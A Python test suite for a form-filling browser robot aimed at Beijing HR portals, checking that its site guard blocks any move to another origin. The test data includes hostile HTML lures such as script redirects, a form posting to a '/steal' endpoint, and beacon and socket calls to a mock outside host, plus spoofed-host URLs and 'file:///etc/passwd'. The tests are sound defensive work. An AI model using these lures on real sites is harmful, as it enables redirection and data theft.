"""Nothing but the portal's own site is ever reached, and nothing is typed elsewhere: proved by trying."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import Browser
from tiny_site import MENU, OpenPage, TinySite

from robot.browser.forms import PortalForm
from robot.browser.guard import Site, site_of
from robot.browser.page import PortalPage
from robot.browser.session import a_page
from robot.errors import ConfigError, WrongSite
from robot.settings import Settings

FORM = (
    '[home]\nheading = "甲"\ngo = { link = "去" }\nsend = { button = "提交" }\n[home.fields]\nname = "姓名"\n'
)


class Secret(PortalForm):
    name: str = "planted-secret"


@contextmanager
def blank(browser: Browser, settings: Settings) -> Iterator[PortalPage]:
    with a_page(settings, "chaoyang_hr", "unit", browser=browser, evidence=None, state=None) as (page, _):
        yield page


@pytest.mark.parametrize("code", [301, 302, 303, 307, 308])
def test_a_redirect_to_another_site_is_not_followed(
    on_tiny: OpenPage, tiny: TinySite, elsewhere: TinySite, code: int
) -> None:
    page = on_tiny(FORM, '<h1>甲</h1><a href="/chaoyang_hr/out">去</a>')
    tiny.pages["/chaoyang_hr/out"] = (code, {"Location": elsewhere.url + "/"}, b"")
    page.at("home")
    with pytest.raises(WrongSite, match=r"127\.0\.0\.1"):
        page.press("home.go")
    with pytest.raises(WrongSite):
        page.fill(Secret())
    assert elsewhere.received == []


@pytest.mark.parametrize(
    "lure",
    [
        '<meta http-equiv=refresh content="0;url={there}/">',
        '<script>location.href = "{there}/"</script>',
        '<script>setTimeout(() => location.replace("{there}/"), 50)</script>',
        '<a id=a href="{there}/" target=_blank>x</a><script>onload = () => open("{there}/")</script>',
        '<form id=f action="{there}/" method=post><input name=a value=b></form><script>f.submit()</script>',
        """<script>const later = open('about:blank');
        setTimeout(() => later.location.replace('{there}/'), 50)</script>""",
        '<form id=f action=/chaoyang_hr/ok method=post><button formaction="{there}/">x</button></form>'
        "<script>f.firstChild.click()</script>",
        '<base href="{there}/"><form id=f action=taken method=post><input name=a></form>'
        "<script>f.submit()</script>",
        """<script>const page = "<form id=f method=post action='{there}/'></form><scr" + "ipt>f.submit()</scr" +
        "ipt>"; location = URL.createObjectURL(new Blob([page], {{type: "text/html"}}))</script>""",
        """<script>location = "javascript:location.replace('{there}/')"</script>""",
        '<iframe srcdoc="<a id=a target=_top href={there}/>x</a><script>a.click()</script>"></iframe>',
    ],
    ids=[
        *("refresh", "script", "later", "pop-up", "form"),
        *("pop-up that goes later", "formaction", "base", "blob", "javascript", "frame breaks out"),
    ],
)
def test_a_page_that_leads_elsewhere_is_left_alone(
    on_tiny: OpenPage, tiny: TinySite, elsewhere: TinySite, lure: str
) -> None:
    page = on_tiny(FORM, '<h1>甲</h1><a href="/chaoyang_hr/trap">去</a>')
    tiny.pages["/chaoyang_hr/trap"] = MENU + "<h1>甲</h1>" + lure.format(there=elsewhere.url)
    page.at("home")
    page.tab.click("a")
    with pytest.raises(WrongSite):  # at once, or when the page has had its time to jump
        page.press("home.send")
    assert elsewhere.received == []


def test_a_form_aimed_elsewhere_sends_nothing(on_tiny: OpenPage, tiny: TinySite, elsewhere: TinySite) -> None:
    form = f'<form action="{elsewhere.url}/steal" method=post>'
    html = f"<h1>甲</h1>{form}<input name=n value=v><button>提交</button></form>"
    page = on_tiny(FORM, html)
    with pytest.raises(WrongSite):
        page.press("home.send")
    assert elsewhere.received == []


def test_frames_scripts_pictures_sockets_and_beacons_reach_nobody_else(
    on_tiny: OpenPage, tiny: TinySite, elsewhere: TinySite
) -> None:
    there, socket = elsewhere.url, elsewhere.url.replace("http", "ws")
    html = f"""<h1>甲</h1><iframe src="{there}/frame"></iframe><img src="{there}/picture">
        <script src="{there}/script"></script><link rel=stylesheet href="{there}/style">
        <script>
          fetch("{there}/fetch", {{method: "POST", mode: "no-cors", body: "x"}}).catch(() => 0);
          navigator.sendBeacon("{there}/beacon", "x"); new WebSocket("{socket}/socket");
          new EventSource("{there}/events"); new Worker("/chaoyang_hr/worker");
          navigator.serviceWorker.register("/chaoyang_hr/worker").catch(() => 0);
          const more = document.createElement("link"); more.rel = "prefetch"; more.href = "{there}/prefetch";
          document.head.append(more);
        </script><object data="{there}/object"></object><video src="{there}/video"></video><button onclick="window.name = 'pressed'">提交</button>"""
    script = f"fetch('{there}/worker', {{mode: 'no-cors'}}).then(() => 0, () => fetch('/chaoyang_hr/tried'))"
    tiny.pages["/chaoyang_hr/worker"] = (200, {"Content-Type": "text/javascript"}, script.encode())
    page = on_tiny(FORM, html)
    page.press("home.send")  # the page itself is the portal's own, so work goes on
    assert page.tab.evaluate("name") == "pressed"
    assert page.tab.evaluate("navigator.serviceWorker.getRegistrations().then((all) => all.length)") == 0
    page.tab.wait_for_function("() => performance.now() > 0")
    assert tiny.asked("/chaoyang_hr/worker")
    assert elsewhere.received == []


def test_links_that_lead_to_no_site_open_nothing(on_tiny: OpenPage, elsewhere: TinySite) -> None:
    """A browser opens no data: page in place of another, and what javascript: and blob: links bring is the
    portal's own page still."""
    html = f"""<h1>甲</h1><a id=d href="data:text/html,<form action='{elsewhere.url}/'><label>姓名<input>">d</a>
        <a id=p target=_blank href="data:text/html,<script>location='{elsewhere.url}/'</script>">p</a>
        <a id=j href="javascript:void(document.title = 'ran')">j</a>
        <button onclick="window.name = 'pressed'">提交</button>"""
    page = on_tiny(FORM, html)
    for one in ("#d", "#p", "#j"):
        page.tab.click(one)
    page.press("home.send")
    assert page.tab.title() == "ran"
    assert page.tab.evaluate("[name, location.pathname]") == ["pressed", "/chaoyang_hr/"]
    assert elsewhere.received == []


def test_the_portals_own_sockets_are_let_through(on_tiny: OpenPage, tiny: TinySite) -> None:
    socket = tiny.url.replace("http", "ws")
    html = f"""<h1>甲</h1><button onclick="window.name = 'pressed'">提交</button><script>
        const one = new WebSocket("{socket}/socket"); one.onerror = () => {{ document.title = "answered"; }}
        </script>"""
    page = on_tiny(FORM, html)
    page.tab.wait_for_function("document.title === 'answered'")
    page.press("home.send")
    assert tiny.asked("/socket")


def test_nothing_is_typed_into_a_data_frame(on_tiny: OpenPage, tiny: TinySite) -> None:
    frame = "data:text/html,<meta charset=utf-8><label>姓名<input id=i></label>"
    page = on_tiny(FORM, f'<h1>甲</h1><iframe src="{frame}"></iframe>')
    page.at("home")
    with pytest.raises(WrongSite, match="data:"):
        page.fill(Secret())
    assert page.tab.frames[1].input_value("#i") == ""


def test_the_control_side_of_the_mock_is_no_page_of_a_portal(on_tiny: OpenPage, tiny: TinySite) -> None:
    tiny.pages["/_control/faults"] = MENU + "<label>姓名 <input id=i></label>"
    page = on_tiny(FORM, '<h1>甲</h1><a href="/_control/faults">去</a>')
    with pytest.raises(WrongSite, match="_control"):
        page.press("home.go")
    with pytest.raises(WrongSite, match="_control"):
        page.goto(tiny.url + "/_control/faults")


def test_an_unreachable_address_typed_by_hand_is_no_way_out(
    browser: Browser, tiny_settings: Settings, elsewhere: TinySite
) -> None:
    with blank(browser, tiny_settings) as page, pytest.raises(WrongSite):
        page.goto(elsewhere.url + "/")
    assert elsewhere.received == []


LIVE = Site("p", "https://a.example.cn/x/", frozenset({("https", "a.example.cn", 443)}))


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://a.example.cn/", True),
        ("https://A.Example.CN:443/q?x#y", True),
        ("blob:https://a.example.cn/1234", True),
        ("http://a.example.cn/", False),
        ("https://a.example.cn:8443/", False),
        ("https://a.example.cn.evil.cn/", False),
        ("https://b.a.example.cn/", False),
        ("https://a-example.cn/", False),
        ("https://a.example.cn@evil.cn/", False),
        ("https://evil.cn/a.example.cn", False),
        ("https://а.example.cn/", False),  # a Cyrillic look-alike
        ("https://xn--80a.example.cn/", False),  # the same as a browser shows it
        ("https://a.example.cn\u3002evil.cn/", False),  # a full stop of Chinese text is one in a host too
        ("https://a.example.cn\\@evil.cn/", False),
        ("https://a.example.cn%2eevil.cn/", False),
        ("https://a.example.cn:443@evil.cn/", False),
        ("https://0xa.example.cn/", False),
        ("wss://a.example.cn/", False),
        ("blob:https://evil.cn/1234", False),
        ("blob:null", False),
        ("data:text/html,hello", False),
        ("file:///etc/passwd", False),
        ("javascript:alert(1)", False),
        ("about:blank", False),
        ("https://[bad", False),
        ("", False),
    ],
)
def test_only_the_exact_origin_counts(url: str, allowed: bool) -> None:
    assert LIVE.allows(url) is allowed


def test_plain_http_must_be_allowed_by_name(tmp_path: Path) -> None:
    live = Settings(workspace=tmp_path, profile="live")
    with pytest.raises(ConfigError, match="GONGJU_ALLOW_HTTP"):
        site_of(live, "chaoyang_hr")
    allowed = site_of(
        Settings(workspace=tmp_path, profile="live", allow_http=("chaoyang_hr",)), "chaoyang_hr"
    )
    assert allowed.allows("http://cyrlzygl.bjchy.gov.cn/login")
    with pytest.raises(ConfigError):
        site_of(Settings(workspace=tmp_path, profile="live", allow_http=("chaoyang_hr",)), "talent_unit")


def test_plain_http_is_warned_of_each_time(tmp_path: Path, caplog_loguru: list[str]) -> None:
    settings = Settings(workspace=tmp_path, profile="live", allow_http=("chaoyang_hr",))
    for times in (1, 2):
        site_of(settings, "chaoyang_hr")
        assert sum("plain http" in line for line in caplog_loguru) == times


def test_encrypted_portals_get_no_plain_origin(tmp_path: Path) -> None:
    site = site_of(Settings(workspace=tmp_path, profile="live"), "talent_person")
    assert {origin[0] for origin in site.origins} == {"https"}


@pytest.mark.parametrize(
    "url", ["http://cyrlzygl.bjchy.gov.cn", "https://fw.bjrcgz.gov.cn/x", "nonsense", "ftp://x"]
)
def test_the_mock_profile_never_goes_to_a_live_portal(tmp_path: Path, url: str) -> None:
    with pytest.raises(ConfigError, match="GONGJU_MOCK_URL"):
        site_of(Settings(workspace=tmp_path, mock_url=url), "chaoyang_hr")
